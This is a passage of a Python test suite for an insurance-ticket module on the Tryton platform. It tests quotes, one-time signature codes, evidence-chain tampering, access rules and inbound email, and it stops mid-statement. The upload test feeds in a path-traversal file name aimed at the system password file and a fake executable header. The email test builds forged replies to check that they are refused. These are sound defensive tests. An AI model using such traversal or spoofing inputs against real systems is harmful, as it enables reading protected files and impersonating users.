# This file is part of the insurance intermediary platform.
import datetime as dt
import email
import hashlib
import io
import os
import tempfile
import zipfile
from contextlib import ExitStack, redirect_stdout
from decimal import Decimal

from persiantools.jdatetime import JalaliDate
from pypdf import PdfReader

from trytond.model.exceptions import AccessButtonError, AccessError
from trytond.modules.client_card import questionnaire_install
from trytond.modules.company.tests import create_company, set_company
from trytond.modules.portal import formats
from trytond.modules.portal.demo import italian_number
from trytond.modules.portal.upload import UploadRefused
from trytond.pool import Pool
from trytond.res.user import PASSWORD_HASH
from trytond.modules.portal.tests.tools import (
    PlatformModuleTestCase, configured, flip_byte, load_translations,
    one_time_code, outbox, pdf_bytes, pdfsig, pyhanko_validate, text_of,
    xlsx_bytes)
from trytond.tests.test_tryton import with_transaction
from trytond.transaction import Transaction, check_access

from trytond.modules.insurance_ticket import accounting, document, verify
from trytond.modules.insurance_ticket.exceptions import (
    AppendOnly, BrokenEvidenceChain, InvalidRUINumber,
    MissingOldPolicy, PolicyNotPdf, PortalActionDenied, SignatureCodeInvalid,
    SignatureCodeThrottled, SignatureLocked)

FISCAL_CODE = italian_number(5, first='9')


OLD_POLICY = [
    "Compagnia: Reale Mutua di Assicurazioni", "Polizza n. RM/2024001",
    "Scadenza: 31/01/2026", "Premio annuo lordo: € 1.850,00",
    "Anno di costruzione: 1972", "Unità immobiliari: 24"]
# what the client adds to the questionnaire pre-filled from the old policy
ANSWERS = {'condominio_indirizzo': "Via Aurora 3, Milano",
    'metri_quadri': 1400, 'sinistri_5_anni': 0}


SIGNATURE_CODE = 'insurance_ticket/email/signature_code.html'


class InsuranceTicketTestCase(PlatformModuleTestCase):
    "Test the insurance_ticket module"
    module = 'insurance_ticket'

    def setup_world(self):
        pool = Pool()
        Party = pool.get('party.party')
        WebUser = pool.get('web.user')
        User = pool.get('res.user')
        Employee = pool.get('company.employee')
        Group = pool.get('res.group')
        ModelData = pool.get('ir.model.data')
        Line = pool.get('insurance.ticket.line')
        RequestType = pool.get('insurance.ticket.request_type')
        Condominium = pool.get('insurance.condominium')

        company = create_company()
        operator_party = Party(name="Marco Di Cosimo")
        operator_party.save()
        employee = Employee(party=operator_party, company=company)
        employee.save()
        operator = User(
            login='operatore', name="Marco Di Cosimo",
            email='operatore@mpservice.example',
            employees=[employee], employee=employee,
            companies=[company], company=company,
            groups=[Group(ModelData.get_id(
                        'insurance_ticket', 'group_operator'))])
        operator.save()

        def party(name, email_address=None, **values):
            record = Party(name=name, **values)
            if email_address:
                record.contact_mechanisms = [
                    {'type': 'email', 'value': email_address}]
            record.save()
            return record

        studio = party("Studio Spadafora S.r.l.")
        daniela = party("Daniela Spadafora", 'daniela@studio.example')
        colleague = party("Luca Spadafora", 'luca@studio.example')
        stranger = party("Giuseppe Colombo", 'giuseppe@colombo.example')
        rbs = party("RBS Broker S.r.l.", is_brokerage=True)
        other_brokerage = party("Assibroker", is_brokerage=True)
        emilio = party("Emilio Salerno", 'emilio@rbs.example')
        sara = party("Sara Galli", 'sara@assi.example')
        users = {}
        for key, person, secondary in [
                ('client', daniela, [studio]),
                ('colleague', colleague, [studio]),
                ('stranger', stranger, []),
                ('broker', emilio, [rbs]),
                ('other_broker', sara, [other_brokerage]),
                ]:
            users[key] = WebUser(
                email=person.email, email_valid=True, party=person,
                secondary_parties=secondary)
        WebUser.save(list(users.values()))
        # the module's reference data
        line, = Line.search([('code', '=', 'building')])
        quote, = RequestType.search([('code', '=', 'quote')])
        condominium = Condominium(
            name="Condominio Aurora", fiscal_code=FISCAL_CODE,
            administrator=daniela)
        condominium.save()
        return {
            'company': company, 'operator': operator, 'studio': studio,
            'daniela': daniela, 'rbs': rbs, 'line': line, 'quote': quote,
            'condominium': condominium, **users}

    def open_ticket(self, world):
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Attachment = pool.get('insurance.ticket.attachment')
        return Ticket.open({
                'title': "Attivazione Polizza",
                'client': world['daniela'].id,
                'client_company': world['studio'].id,
                'line': world['line'].id,
                'request_type': world['quote'].id,
                'condominium': world['condominium'].id,
                }, "Si richiede offerta per il condominio",
            [Attachment.upload('polizza.pdf', pdf_bytes(*OLD_POLICY))],
            Message.web_author(world['client']))

    def start_signing(self, world, ticket):
        "Put the ticket in signing with its old policy as the policy."
        Ticket = Pool().get('insurance.ticket')
        with Transaction().set_user(world['operator'].id):
            Ticket.take_in_charge([ticket])
        Ticket.write([ticket], {
                'state': 'signing', 'brokerage': world['rbs'].id,
                'policy_number': 'GF-1',
                'policy_hash': ticket.attachments[0].sha256,
                'policy_document': ticket.attachments[0].id})

    def create_accountant(self, world, **values):
        "Create a back-office user of the accountants group."
        pool = Pool()
        User = pool.get('res.user')
        Group = pool.get('res.group')
        ModelData = pool.get('ir.model.data')
        accountant = User(
            login='contabile', name="Giulia Ferri",
            companies=[world['company']], company=world['company'],
            groups=[Group(ModelData.get_id(
                        'insurance_ticket', 'group_accountant'))],
            **values)
        accountant.save()
        return accountant

    def age_codes(self, *columns, **delta):
        "Move the times of every signature code back by the delta."
        Request = Pool().get('insurance.ticket.signature_request')
        table = Request.__table__()
        past = dt.datetime.now() - dt.timedelta(**delta)
        Transaction().connection.cursor().execute(*table.update(
                [getattr(table, c) for c in columns], [past] * len(columns)))

    def known_code(self, request):
        "Give the signature request a code the test knows and return it."
        request.code_hash = PASSWORD_HASH.hash('123456')
        request.save()
        return '123456'

    def send_quote(self, world, ticket):
        "Take the ticket in charge, forward it and send the broker's quote."
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Attachment = pool.get('insurance.ticket.attachment')
        with Transaction().set_user(world['operator'].id):
            Ticket.take_in_charge([ticket])
            Ticket.write([ticket], {'brokerage': world['rbs'].id})
            Ticket.forward([ticket])
        Ticket.send_quote([ticket], Message.web_author(world['broker']),
            "Preventivo", [Attachment.upload(
                    'bozza.pdf', pdf_bytes("Polizza"), 'contract')], {
                'insurer': "Generali", 'premium': Decimal('1250.50'),
                'coverages': "Incendio", 'quote_valid_until': dt.date.today(),
                })

    def as_portal(self, web_user):
        "Return the context managers of a restricted portal transaction."
        ModelData = Pool().get('ir.model.data')
        transaction = Transaction()
        return (
            transaction.set_user(ModelData.get_id('portal', 'user_portal')),
            transaction.set_context(
                web_user=web_user.id,
                web_user_parties=[p.id for p in web_user.acting_parties]),
            check_access())

    @with_transaction()
    def test_whole_workflow(self):
        "A quote request goes from the client to the signed policy"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Attachment = pool.get('insurance.ticket.attachment')
        questionnaire_install.install()
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.assertEqual(len(ticket.number), 9)
            self.assertEqual(ticket.state, 'new')
            self.assertEqual(ticket.attachments[0].category, 'old_policy')
            self.assertEqual(ticket.opportunity.state, 'lead')

            with Transaction().set_user(world['operator'].id):
                Ticket.take_in_charge([ticket])
                ticket.brokerage = world['rbs']
                ticket.save()
                Ticket.forward([ticket])
            self.assertEqual(ticket.state, 'at_broker')
            self.assertTrue(ticket.first_response_at)

            broker = Message.web_author(world['broker'])
            client = Message.web_author(world['client'])
            ticket.check_portal_action(world['broker'], 'send_questionnaire')
            with self.assertRaises(PortalActionDenied):
                ticket.check_portal_action(world['client'], 'send_quote')
            Ticket.send_questionnaire([ticket], broker, "Questionario")
            questionnaire = ticket.messages[-1].attachments[0]
            self.assertEqual(questionnaire.category, 'questionnaire')
            with zipfile.ZipFile(io.BytesIO(questionnaire.data)) as archive:
                sheet = archive.read('xl/sharedStrings.xml').decode()
            self.assertIn(FISCAL_CODE, sheet)
            # pre-filled from the old policy's text
            for fact in ["Reale Mutua di Assicurazioni", "RM/2024001",
                    "31/01/2026", "1972"]:
                self.assertIn(fact, sheet)

            ticket.questionnaire.save_answers(dict(ANSWERS,
                    compagnia_attuale="Generali Italia"))
            Ticket.answer_questionnaire([ticket], client, "Compilato")
            self.assertEqual(ticket.state, 'questionnaire_returned')
            answered, = [a for a in ticket.messages[-1].attachments
                if a.name.endswith('.xlsx')]
            self.assertEqual(answered.category, 'questionnaire')
            with zipfile.ZipFile(io.BytesIO(answered.data)) as archive:
                sheet = archive.read('xl/sharedStrings.xml').decode()
            self.assertIn("Generali Italia", sheet)
            # the client's answers replace what the old policy stated
            self.assertNotIn("Reale Mutua", sheet)
            Ticket.send_quote([ticket], broker, "Preventivo",
                [Attachment.upload(
                        'bozza.pdf', pdf_bytes("Polizza"), 'contract')], {
                    'insurer': "Generali", 'premium': Decimal('1250.50'),
                    'coverages': "Incendio\nRC",
                    'quote_valid_until': dt.date.today(),
                    })
            self.assertEqual(ticket.opportunity.state, 'opportunity')
            self.assertEqual(ticket.opportunity.amount, Decimal('1250.50'))
            Ticket.accept([ticket], client, "Accetto", world['client'],
                '192.0.2.1')
            self.assertEqual(ticket.accepted_ip, '192.0.2.1')
            with self.assertRaises(PortalActionDenied):
                ticket.sign(world['client'], '000000', '192.0.2.1', 'ua')

            policy_pdf = pdf_bytes("Polizza definitiva")
            Ticket.send_policy([ticket], broker, "Polizza", [
                    Attachment.upload('polizza.pdf', policy_pdf, 'policy')],
                {'policy_number': 'GF-1', 'policy_start': dt.date.today(),
                    'policy_end': dt.date.today() + dt.timedelta(days=365)})
            self.assertEqual(ticket.state, 'signing')
            with self.assertRaises(SignatureCodeInvalid):
                ticket.sign(world['client'], '123456', '192.0.2.1', 'ua')
            ticket.request_signature_code(world['client'])
            code = one_time_code(outbox(SIGNATURE_CODE)[-1])
            wrong = '%06d' % ((int(code) + 1) % 10 ** 6)
            with self.assertRaises(SignatureCodeInvalid):
                ticket.sign(world['client'], wrong, '192.0.2.1', 'ua')
            evidence = ticket.sign(
                world['client'], code, '192.0.2.1', 'Chromium')
            self.assertEqual(ticket.state, 'signed')
            self.assertIsNone(evidence.previous_hash)
            self.assertEqual(evidence.chain_version, 2)
            self.assertEqual(evidence.document_hash, ticket.policy_hash)
            self.assertEqual(ticket.policy.number, 'GF-1')
            self.assertEqual(ticket.opportunity.state, 'won')
            signed_copy = Ticket(ticket.id).messages[-1].attachments[0]
            self.assertEqual(signed_copy.category, 'signed')
            pages = PdfReader(io.BytesIO(signed_copy.data)).pages
            self.assertEqual(len(pages), 2)
            self.assertIn("Polizza definitiva", pages[0].extract_text())
            self.assertIn(
                evidence.chain_hash, pages[1].extract_text().replace("\n", ""))
            Ticket.verify_signature([ticket])
            with self.assertRaises(AppendOnly):
                evidence.__class__.write([evidence], {'ip_address': 'x'})
            Ticket.finish([ticket], broker)
            self.assertEqual(ticket.state, 'closed')
            self.assertEqual(ticket.stage, 'closed')

    @with_transaction()
    def test_wrong_code_locks(self):
        "Five wrong codes lock the code for a quarter of an hour"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            ticket.request_signature_code(world['client'])
            for _ in range(4):
                with self.assertRaises(SignatureCodeInvalid):
                    ticket.sign(world['client'], 'x', '', '')
            with self.assertRaises(SignatureLocked):
                ticket.sign(world['client'], 'x', '', '')
            with self.assertRaises(SignatureLocked):
                ticket.request_signature_code(world['client'])
            self.assertEqual(Ticket(ticket.id).state, 'signing')

            # a quarter of an hour later a new code may be asked
            self.age_codes('sent_at', 'write_date', minutes=16)
            request = ticket.request_signature_code(world['client'])
            self.assertEqual(request.attempts, 0)
            with self.assertRaises(SignatureCodeInvalid):
                ticket.sign(world['client'], 'x', '', '')

    @with_transaction()
    def test_expired_code_refused(self):
        "A right code is refused once expired and the ticket stays signing"
        Ticket = Pool().get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            code = self.known_code(
                ticket.request_signature_code(world['client']))
            self.age_codes('expires_at', seconds=1)
            with self.assertRaises(SignatureCodeInvalid):
                ticket.sign(world['client'], code, '192.0.2.1', 'ua')
            self.assertEqual(Ticket(ticket.id).state, 'signing')
            self.assertFalse(Ticket(ticket.id).evidences)

    @with_transaction()
    def test_code_resend_throttled(self):
        "A new code may be asked only a minute after the previous one"
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            first = ticket.request_signature_code(world['client'])
            with self.assertRaises(SignatureCodeThrottled):
                ticket.request_signature_code(world['client'])
            self.age_codes('sent_at', seconds=61)
            second = ticket.request_signature_code(world['client'])
            self.assertNotEqual(second.id, first.id)

    @with_transaction()
    def test_tampered_evidence_breaks_chain(self):
        "A stored evidence changed behind the chain fails the verification"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Evidence = pool.get('insurance.ticket.evidence')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            code = self.known_code(
                ticket.request_signature_code(world['client']))
            ticket.sign(world['client'], code, '192.0.2.1', 'Chromium')
            self.assertEqual(ticket.state, 'signed')
            Ticket.verify_signature([ticket])
            table = Evidence.__table__()
            cursor = Transaction().connection.cursor()
            cursor.execute(*table.update(
                    [table.ip_address], ['198.51.100.7'],
                    where=table.ticket == ticket.id))
            with self.assertRaises(BrokenEvidenceChain):
                Ticket.verify_signature([Ticket(ticket.id)])

    @with_transaction()
    def test_code_by_sms_when_phone_verified(self):
        "The code goes by email and by SMS to a verified phone"
        pool = Pool()
        world = self.setup_world()
        client = world['client']
        client.phone = '+393331234567'
        client.phone_verified = True
        client.save()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
        sms_folder = pool.get('portal.sms').outbox()
        os.makedirs(sms_folder, exist_ok=True)
        before = set(os.listdir(sms_folder))
        request = ticket.request_signature_code(client)
        sms, = set(os.listdir(sms_folder)) - before
        with open(os.path.join(sms_folder, sms)) as file:
            text = file.read()
        code = one_time_code(outbox(SIGNATURE_CODE)[-1])
        self.assertEqual(request.channel, 'email+sms')
        self.assertIn('+39***67', request.destination)
        self.assertIn(code, text)

    @with_transaction()
    def test_decline_loses_opportunity(self):
        "Declining the quote marks the opportunity lost"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.send_quote(world, ticket)
            self.assertEqual(ticket.opportunity.state, 'opportunity')
            Ticket.decline(
                [ticket], Message.web_author(world['client']), "No")
            self.assertEqual(ticket.state, 'declined')
            self.assertEqual(ticket.opportunity.state, 'lost')
            self.assertTrue(ticket.opportunity.end_date)

    @with_transaction()
    def test_quote_letter_premium_in_words(self):
        "The quote letter writes the premium in Italian figures and words"
        world = self.setup_world()
        world['rbs'].rui_number = 'b 000 412 587'
        world['rbs'].save()
        self.assertEqual(world['rbs'].rui_number, 'B000412587')
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.send_quote(world, ticket)
        letter, = [a for a in ticket.attachments if a.category == 'quote']
        text = ' '.join(
            PdfReader(io.BytesIO(letter.data)).pages[0].extract_text().split())
        self.assertIn(
            "milleduecentocinquanta euro e cinquanta centesimi", text)
        self.assertIn("1.250,50 €", text)
        # to the client's company, from the intermediary and the broker
        self.assertIn("Client Studio Spadafora S.r.l. Requested by "
            "Daniela Spadafora", text)
        self.assertIn(
            f"Intermediary {world['company'].party.rec_name} Broker", text)
        self.assertIn("RBS Broker S.r.l. · RUI no. B000412587", text)
        self.assertIn("Coverages Incendio", text)

    @with_transaction()
    def test_documents_in_the_clients_language(self):
        "The questionnaire, quote and signed copy speak the client's language"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Lang = pool.get('ir.lang')
        load_translations('insurance_ticket')
        load_translations('consent_registry')
        questionnaire_install.install()
        world = self.setup_world()
        daniela = world['daniela']
        daniela.lang, = Lang.search([('code', '=', 'fa')])
        daniela.save()
        # the staff work in Italian: the client's documents stay Persian
        with set_company(world['company']), \
                Transaction().set_context(language='it'):
            ticket = self.open_ticket(world)
            with Transaction().set_user(world['operator'].id):
                Ticket.take_in_charge([ticket])
                Ticket.write([ticket], {'brokerage': world['rbs'].id})
                Ticket.forward([ticket])
            Ticket.send_questionnaire([ticket],
                Message.web_author(world['broker']), "Questionario")
            ticket.questionnaire.save_answers(ANSWERS)
            Ticket.answer_questionnaire([ticket],
                Message.web_author(world['client']), "Compilato")
            self.send_quote(world, ticket)
        ticket = Ticket(ticket.id)
        names = {a.category: a.name for a in ticket.attachments}
        self.assertEqual(names['questionnaire'],
            f"پرسشنامه {ticket.number}.xlsx")
        self.assertEqual(names['quote'], f"پیشنهاد قیمت {ticket.number}.pdf")
        letter, = [a for a in ticket.attachments if a.category == 'quote']
        reader = PdfReader(io.BytesIO(letter.data))
        fonts = {font['/BaseFont'] for font in
            reader.pages[0]['/Resources']['/Font'].values()}
        # a font with Persian glyphs, not Helvetica's empty boxes
        self.assertTrue(any('DejaVu' in f for f in fonts), fonts)
        self.assertEqual(formats.amount_in_words(Decimal('1250.50'), 'fa'),
            "هزار و دویست و پنجاه یورو ۵۰/۱۰۰")
        self.assertEqual(
            formats.format_date(ticket.quote_valid_until, 'fa'),
            formats.localize_digits(JalaliDate(
                    ticket.quote_valid_until).strftime('%Y/%m/%d'), 'fa'))
        with set_company(world['company']):
            self.start_signing(world, ticket)
            code = self.known_code(
                ticket.request_signature_code(world['client']))
            ticket.sign(world['client'], code, '192.0.2.1', 'Chromium')
        signed, = [a for a in Ticket(ticket.id).attachments
            if a.category == 'signed']
        self.assertEqual(signed.name, f"بیمه‌نامه امضاشده {ticket.number}.pdf")
        english = Lang.search([('code', '=', 'en')])[0]
        daniela.lang = english
        daniela.save()
        with set_company(world['company']), \
                Transaction().set_context(language='it'):
            letter = document.quote_letter(Ticket(ticket.id))
        self.assertEqual(letter['name'], f"Quote {ticket.number}.pdf")

    @with_transaction()
    def test_dashboard_stages(self):
        "Each stage counts all its tickets and gives the newest first"
        Ticket = Pool().get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            tickets = [self.open_ticket(world) for _ in range(4)]
        for ticket, (state, day) in zip(tickets, [
                    ('new', 1), ('new', 3), ('closed', 2), ('at_broker', 4)]):
            ticket.state = state
            ticket.last_activity_at = dt.datetime(2026, 3, day)
            ticket.save()
        stages = Ticket.by_stage(1)
        self.assertEqual({s: c for s, (c, _) in stages.items()},
            {'open': 2, 'progress': 1, 'closed': 1})
        self.assertEqual(stages['open'][1], [tickets[1]])
        self.assertEqual(stages['closed'][1], [tickets[2]])
        Ticket.write(tickets[2:], {'state': 'new'})
        stages = Ticket.by_stage(5)
        self.assertEqual(stages['closed'], (0, []))
        self.assertEqual(stages['open'][1],
            [tickets[3], tickets[1], tickets[2], tickets[0]])

    @with_transaction()
    def test_language_of_each_reader(self):
        "Parties, web users and staff users are written to in their language"
        from trytond.modules.portal.i18n import language_of
        Lang = Pool().get('ir.lang')
        world = self.setup_world()
        persian, = Lang.search([('code', '=', 'fa')])
        Lang.write([persian], {'translatable': True})  # as trytond-admin -l
        operator = world['operator']
        operator.language = persian
        operator.save()
        world['daniela'].lang = persian
        world['daniela'].save()
        self.assertEqual(language_of(operator), 'fa')
        self.assertEqual(language_of(world['client']), 'fa')
        self.assertEqual(language_of(world['daniela']), 'fa')
        operator.language = None
        operator.save()
        self.assertEqual(language_of(operator), 'it')
        self.assertEqual(language_of(None), 'it')

    @with_transaction()
    def test_rui_number_checked(self):
        "An intermediary's RUI number is a section letter and 9 digits"
        for number in ['B00041258', 'F000412587', 'B00041258A', 'RUI']:
            with self.subTest(number=number), \
                    self.assertRaises(InvalidRUINumber):
                Pool().get('party.party')(
                    name="Broker", rui_number=number).save()

    @with_transaction()
    def test_back_office_search(self):
        "Operators find tickets by condominium, fiscal code and client"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
        with Transaction().set_user(world['operator'].id), check_access():
            for domain, found in [
                    [('rec_name', 'ilike', '%aurora%'), [ticket]],
                    [('rec_name', 'ilike', '%boreale%'), []],
                    [('rec_name', 'ilike', f'%{FISCAL_CODE}%'), [ticket]],
                    [('fiscal_code', '=', FISCAL_CODE), [ticket]],
                    [('fiscal_code', '=', italian_number(5)), []],
                    [('rec_name', 'ilike', '%daniela%'), [ticket]],
                    [('rec_name', 'ilike', '%colombo%'), []],
                    ]:
                self.assertEqual(Ticket.search([domain]), found, domain)

    @with_transaction()
    def test_take_in_charge_needs_operator(self):
        "Only operators may press the take in charge button"
        Ticket = Pool().get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
        accountant = self.create_accountant(world,
            employees=world['operator'].employees,
            employee=world['operator'].employee)
        with Transaction().set_user(accountant.id), check_access():
            with self.assertRaises(AccessButtonError):
                Ticket.take_in_charge([Ticket(ticket.id)])
        self.assertEqual(Ticket(ticket.id).state, 'new')
        with Transaction().set_user(world['operator'].id), check_access():
            Ticket.take_in_charge([Ticket(ticket.id)])
        self.assertEqual(Ticket(ticket.id).state, 'in_charge')

    @with_transaction()
    def test_bad_files(self):
        "Files are checked by content and size; quote needs the old policy"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Attachment = pool.get('insurance.ticket.attachment')
        world = self.setup_world()
        with self.assertRaises(UploadRefused):
            Attachment.upload('polizza.pdf', b'MZ\x90\x00' + b'\x00' * 200)
        with self.assertRaises(UploadRefused):
            Attachment.upload('x.docx', b'PK\x03\x04not a zip')
        with self.assertRaises(UploadRefused):
            Attachment.upload(
                'big.pdf', b'%PDF-1.4' + b'0' * Attachment.max_size())
        values = Attachment.upload(
            '../../etc/pass wd?.PDF', pdf_bytes("Polizza"))
        self.assertEqual(values['name'], 'pass wd_.pdf')
        self.assertEqual(
            Attachment.upload('a.bin', xlsx_bytes("answers"))['name'],
            'a.xlsx')
        with set_company(world['company']):
            with self.assertRaises(MissingOldPolicy):
                Ticket.open({
                        'title': "x", 'client': world['daniela'].id,
                        'line': world['line'].id,
                        'request_type': world['quote'].id,
                        }, "body", [], Message.web_author(world['client']))
            ticket = self.open_ticket(world)
            Ticket.write([ticket], {
                    'state': 'accepted', 'brokerage': world['rbs'].id})
            broker = Message.web_author(world['broker'])
            policy = {'policy_number': 'GF-2'}
            xlsx = Attachment.upload('p.xlsx', xlsx_bytes("answers"))
            for files in [[], [xlsx]]:
                with self.assertRaises(PolicyNotPdf):
                    Ticket.send_policy([ticket], broker, "", files, policy)
            self.assertEqual(ticket.state, 'accepted')

    @with_transaction()
    def test_access_rules(self):
        "Colleagues and the brokerage it was forwarded to see it, others not"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            ticket.post("nota interna", internal=True)
            Ticket.write([ticket], {
                    'brokerage': world['rbs'].id, 'state': 'in_charge'})
        self.assert_portal_sees(world, ticket, {
                'client': 1, 'colleague': 1, 'broker': 0,
                'stranger': 0, 'other_broker': 0})
        with set_company(world['company']):
            Ticket.forward([ticket])
        self.assert_portal_sees(world, ticket, {
                'client': 1, 'colleague': 1, 'broker': 1,
                'stranger': 0, 'other_broker': 0})

    def assert_portal_sees(self, world, ticket, expected):
        "Assert how many of the ticket and its files each web user sees."
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        Attachment = pool.get('insurance.ticket.attachment')
        for key, count in expected.items():
            first, second, third = self.as_portal(world[key])
            with first, second, third:
                self.assertEqual(
                    Ticket.search_count([('uuid', '=', ticket.uuid)]),
                    count, key)
                self.assertEqual(
                    Attachment.search_count([('ticket', '=', ticket.id)]),
                    count, key)
                self.assertEqual(
                    Message.search_count([('internal', '=', True)]), 0, key)
                if not count:
                    with self.assertRaises(AccessError):
                        Attachment.read(
                            [ticket.attachments[0].id], ['name', 'data'])

    @with_transaction()
    def test_followers_and_inbound_email(self):
        "Followers but the author get the email; their replies are posted"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Message = pool.get('insurance.ticket.message')
        world = self.setup_world()
        with configured('insurance_ticket', 'reply_to',
                'desk@mpservice.example'):
            with set_company(world['company']):
                ticket = self.open_ticket(world)
            message = ticket.messages[0]
            recipients = {f.address: f.role for f in message.recipients()}
            self.assertIn('luca@studio.example', recipients)
            self.assertNotIn('daniela@studio.example', recipients)
            # the colleague is told, as a client; the staff as the staff
            self.assertEqual(recipients['luca@studio.example'], 'client')
            mail, = [m for m in outbox('insurance_ticket/email/message.html')
                if m['To'] == 'luca@studio.example']
            self.assertEqual(
                mail['Subject'].split(']')[0], f'[Ticket {ticket.number}')
            self.assertIn(f'/tickets/{ticket.uuid}', text_of(mail))
            self.assertIn("ha aperto il ticket numero", text_of(mail))
            reply_to = mail['Reply-To']
            self.assertTrue(reply_to.startswith(
                    f'desk+{ticket.number}.'), reply_to)

            def reply(sender, to=reply_to, extra=''):
                return email.message_from_string(
                    f"From: {sender}\n"
                    f"To: {to}\n{extra}"
                    f"Subject: Re: [Ticket {ticket.number}] Reply\n\n"
                    f"Ecco i dati mancanti.\n\n"
                    f"Il giorno 16/01/2026 ha scritto:\n> testo precedente\n"
                    ).as_bytes()

            Ticket.write([ticket], {'state': 'waiting'})
            posted = Message.receive_email(reply(
                    "Luca <luca@studio.example>", extra=(
                        "Authentication-Results: mx.mpservice.example; "
                        "spf=pass smtp.mailfrom=studio.example\n")))
            self.assertEqual(posted.body, "Ecco i dati mancanti.")
            self.assertEqual(posted.author_name, "Luca Spadafora")
            self.assertIn('spf=pass', posted.email_authentication)
            # the client's reply brings the ticket back, and says so to the
            # staff
            self.assertEqual(ticket.state, 'in_charge')
            event, = Message.search([
                    ('ticket', '=', ticket.id), ('event', '=', 'in_charge')])
            self.assertEqual(event.author_name, "Luca Spadafora")
            self.assertNotIn('luca@studio.example',
                {f.address for f in event.recipients()})

            logger = 'trytond.modules.insurance_ticket.notification'
            daniela = 'Daniela <daniela@studio.example>'
            forged = [
                # the client's address with the subject only, no token
                reply(daniela, to='desk@mpservice.example'),
                # Luca's reply address, sent by someone else
                reply(daniela),
                reply("Giuseppe <giuseppe@colombo.example>"),
                # a token changed (one digit made another)
                reply("Luca <luca@studio.example>", to=reply_to[:-20]
                    + ('1' if reply_to[-20] == '0' else '0')
                    + reply_to[-19:]),
                ]
            for raw in forged:
                with self.subTest(raw=raw[:80]), \
                        self.assertLogs(logger, 'WARNING') as logs:
                    self.assertIsNone(Message.receive_email(raw))
                self.assertIn('refused', logs.output[0])
            Ticket.write([ticket], {'state': 'closed'})
            with self.assertLogs(logger, 'WARNING') as logs:
                self.assertIsNone(Message.receive_email(
                        reply("Luca <luca@studio.example>")))
            self.assertIn('is closed', logs.output[0])

    @with_transaction()
    def test_accountant_reads_opportunities(self):
        "Accountants read the tickets' opportunities and change none"
        Opportunity = Pool().get('sale.opportunity')
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
        accountant = self.create_accountant(world)
        with Transaction().set_user(accountant.id), check_access():
            opportunity, = Opportunity.search(
                [('id', '=', ticket.opportunity.id)])
            self.assertEqual(opportunity.state, 'lead')
            # the client's company is the customer, the ticket is linked
            self.assertEqual(opportunity.party, world['studio'])
            self.assertEqual(opportunity.ticket, ticket)
            self.assertEqual(opportunity.ticket.number, ticket.number)
            with self.assertRaises(AccessError):
                Opportunity.write([opportunity], {'description': "x"})

    @with_transaction()
    def test_brokers_answer_no_consent_forms(self):
        "Clients answer consent forms for them and their company, brokers not"
        world = self.setup_world()
        self.assertEqual(world['broker'].consent_parties(), [])
        self.assertEqual(world['colleague'].consent_parties(), [
                (world['colleague'].party, 'person'),
                (world['studio'], 'legal')])

    @with_transaction()
    def test_brokers_follow_once_forwarded(self):
        "The brokerage's users follow the ticket once it is forwarded"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        world = self.setup_world()
        broker = world['broker']
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            Ticket.write([ticket], {
                    'brokerage': world['rbs'].id, 'state': 'in_charge'})
            self.assertNotIn(broker.email, {f.address for f in ticket.followers()})
            self.assertEqual(ticket.portal_roles(broker), set())
            Ticket.forward([ticket])
            self.assertIn(broker.email, {f.address for f in ticket.followers()})
            self.assertEqual(ticket.portal_roles(broker), {'broker'})

    def readable_parties(self, web_user, parties):
        "Return the parties of the list the web user reads in the portal."
        Party = Pool().get('party.party')
        readable = set()
        with ExitStack() as stack:
            for manager in self.as_portal(web_user):
                stack.enter_context(manager)
            for party in parties:
                try:
                    Party.read([party.id], ['name', 'rec_name'])
                except AccessError:
                    continue
                readable.add(party)
            # a search gives the same parties as a read
            self.assertEqual(
                {p.id for p in Party.search(
                        [('id', 'in', [p.id for p in parties])])},
                {p.id for p in readable})
        return readable

    @with_transaction()
    def test_portal_reads_only_parties_it_reaches(self):
        "A web user reads its parties and those its tickets show, no other"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        world = self.setup_world()
        client, broker = world['client'], world['broker']
        stranger = world['stranger']
        everyone = [client.party, world['studio'], stranger.party,
            world['rbs'], broker.party, world['company'].party]
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            # the company and the brokerages are the portal's to show
            self.assertEqual(self.readable_parties(client, everyone), {
                    client.party, world['studio'], world['rbs'],
                    world['company'].party})
            self.assertEqual(self.readable_parties(stranger, everyone), {
                    stranger.party, world['rbs'], world['company'].party})
            # the broker reads the ticket's clients once it is forwarded
            self.assertEqual(self.readable_parties(broker, everyone), {
                    broker.party, world['rbs'], world['company'].party})
            Ticket.write([ticket], {
